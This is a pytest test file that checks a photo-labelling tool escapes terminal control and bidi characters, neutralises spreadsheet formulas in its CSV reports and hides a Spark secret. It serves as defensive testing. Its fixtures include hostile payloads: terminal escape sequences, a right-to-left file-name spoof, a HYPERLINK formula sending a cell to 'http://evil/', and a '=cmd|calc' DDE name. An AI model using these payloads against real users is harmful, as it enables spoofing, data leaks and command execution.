"""Names that a terminal would obey: whoever gives them, they are shown, and do nothing."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from program import verger
from report_orchard import jpeg
from report_stores import lay, make_store
from verger.demo.render import VARIETIES
from verger.errors import VergerError, visible
from verger.photos.labels import labeller_from
from verger.report import write_report
from verger.settings import RunSettings
from verger.store.summary import summary
from webserver import serve

CLEAR, BIDI = "\x1b[2J\x1b]0;owned\x07", "\u202egpj.\u2066x\u2069"
FORMULA = '=HYPERLINK("http://evil/"&A1)'


def does_nothing(text: str) -> bool:
    """Say whether a terminal only shows it, line by line."""
    return not any(
        unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")
        for c in text
        if c not in "\n\t\u200c\u200d"
    )


@pytest.mark.slow
@given(st.text())
def test_whatever_is_told_does_nothing_and_takes_one_line(text: str) -> None:
    shown = visible(text)
    assert does_nothing(shown)
    assert "\n" not in shown
    assert "\t" not in shown
    assert does_nothing(str(VergerError(text, hint=text)))


@pytest.mark.parametrize(
    "text", ["Plum 2/é桃🍑.jpg", "a\u00a0b", "a\u3000b", "می\u200cخواهم", "👩\u200d🌾"]
)
def test_names_of_all_scripts_stand_as_they_are(text: str) -> None:
    assert visible(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (CLEAR, r"\x1b[2J\x1b]0;owned\x07"),
        ("a\nb\rc\td", r"a\nb\rc\td"),
        ("\u202egpj", r"\u202egpj"),
        ("\x9b31m", r"\x9b31m"),
        ("p\udceache", r"p\udceache"),
    ],
)
def test_what_a_terminal_would_obey_is_shown(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_labels_of_a_file_do_nothing_to_the_terminal(tmp_path: Path) -> None:
    lay(tmp_path / "p", {"a.jpg": b"x"})
    labels = tmp_path / "labels.csv"
    labels.write_text(f"path,label\n{CLEAR}{BIDI},x\n{CLEAR}{BIDI},y\n", encoding="utf-8")
    ended = verger("run", tmp_path / "p", tmp_path / "s", "--label-from", labels)
    assert (ended.code, ended.err.count("\n")) == (2, 1)
    assert r"\x1b[2J\x1b]0;owned\x07\u202egpj" in ended.err
    assert does_nothing(ended.err + ended.out)


def test_a_list_on_the_web_does_nothing_to_the_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    with serve() as site:
        text = f"path,label\na.jpg,{CLEAR}\na.jpg,{BIDI}\n"
        url = site.put("/list.csv", text.encode())
        ended = verger("run", url, tmp_path / "s")
        assert (ended.code, ended.err.count("\n")) == (3, 1)
        assert r"\x1b[2J" in ended.err
        assert does_nothing(ended.err + ended.out)


@pytest.mark.slow
@pytest.mark.parametrize("words", [["run", CLEAR, "s"], [CLEAR], ["report", f"x{BIDI}"]])
def test_arguments_do_nothing_to_the_terminal(words: list[str], tmp_path: Path) -> None:
    ended = verger(*words, cwd=tmp_path)
    assert ended.code != 0
    assert does_nothing(ended.err + ended.out)


def test_labels_in_the_summary_do_nothing() -> None:
    record = {
        "counts": {"embedded": 1, "rejected": 0},
        "projection": {"k": 0, "notes": []},
        "seconds": {},
        "labels": 1,
        "backbone": {"name": "lite", "features": 1, "image_size": 224, "views": [256]},
        "photos_per_second": 0,
        "notes": [f"Labels differ in case alone: {CLEAR} and\nNext: {BIDI}."],
        "settings": {"csv": False},
    }
    text = summary(record, f"s{CLEAR}")
    assert does_nothing(text)
    (note,) = (line for line in text.splitlines() if line.startswith("Note: "))
    assert note.endswith(r"and\nNext: \u202egpj.\u2066x\u2069.")


# Formulas -----------------------------------------------------------------------------------------


@pytest.mark.slow
def test_the_tables_of_a_report_are_safe_to_open(tmp_path: Path) -> None:
    """No cell of text begins as a formula; numbers are numbers; labels read back as they were."""
    names = [FORMULA[:6], "+1", "-plum", "@x", "plum", "'=x"]
    photos = {f"{name}/{n}.jpg": jpeg(VARIETIES[0], n) for n in range(2) for name in names}
    photos |= {"=cmd|calc.jpg": b"none", "-a.jpg": b"none", "\t=b.jpg": b"none"}
    store = make_store(
        lay(tmp_path / "p", photos), tmp_path / "s", RunSettings(csv=False, max_rejects=1)
    )
    folder = Path(write_report(store.root)).parent
    cells = 0
    for file in folder.glob("*.csv"):
        for row in csv.reader(file.open(encoding="utf-8", newline="")):
            for cell in row:
                cells += 1
                is_number = re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell)
                assert is_number or not cell.startswith(tuple("=+-@\t\r\n")), (file.name, cell)
    assert cells > 100
    with (folder / "map.csv").open(encoding="utf-8", newline="") as text:
        rows = list(csv.DictReader(text))
    assert {row["label"] for row in rows} == {"'=HYPER", "'+1", "'-plum", "'@x", "plum", "''=x"}
    assert any(float(row["pca_x"]) < 0 for row in rows)
    labeller = labeller_from(str(folder / "map.csv"), "p")
    for path in photos:
        if "/" in path:
            assert labeller(path) == path.partition("/")[0]
    rejected = labeller_from(str(folder / "map.csv"), "p")
    assert rejected("=cmd|calc.jpg") is None


def test_secrets_of_spark_are_not_shown_by_mistake() -> None:
    ended = verger("run", "p", "s", "--spark-conf", "spark.hadoop.fs.s3a.secret.key:hunter2")
    assert ended.code == 2
    assert "hunter2" not in ended.out + ended.err
    assert json.dumps(RunSettings().as_record())
